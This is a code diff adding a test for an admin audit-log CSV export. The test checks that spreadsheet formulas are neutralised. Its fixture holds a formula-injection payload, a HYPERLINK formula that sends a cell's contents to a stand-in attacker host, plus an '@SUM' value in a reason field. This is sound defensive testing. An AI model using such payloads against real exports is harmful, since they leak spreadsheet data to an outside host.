@@ -103,6 +103,24 @@ def test_export_is_csv_of_the_filtered_rows_and_is_logged(client):
     )
 
 
+def test_export_neutralises_spreadsheet_formulas(client):
+    """Finding 8 of issue 12: a User-Agent of =HYPERLINK(...) went raw into the CSV."""
+    admin = UserFactory(role="admin")
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    request = RequestFactory().get("/x/", HTTP_USER_AGENT=evil)
+    request.user = admin
+    access_log_create(request=request, action="control", name="strategy.halt", object_id="-7", reason="@SUM(1+1)")
+    client.force_login(admin)
+    response = client.get(reverse("quant:audit_export"), {"action": "control"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    header, row = rows[0], rows[1]
+    assert len(rows) == 2
+    assert row[header.index("user_agent")] == "'" + evil
+    assert row[header.index("reason")] == "'@SUM(1+1)"
+    assert row[header.index("object_id")] == "-7"  # a plain number stays a number
+    assert row[header.index("name")] == "strategy.halt"
+
+
 def test_model_changes_are_in_auditlog():
     strategy = StrategyFactory()
     strategy.status = Strategy.Status.HALTED
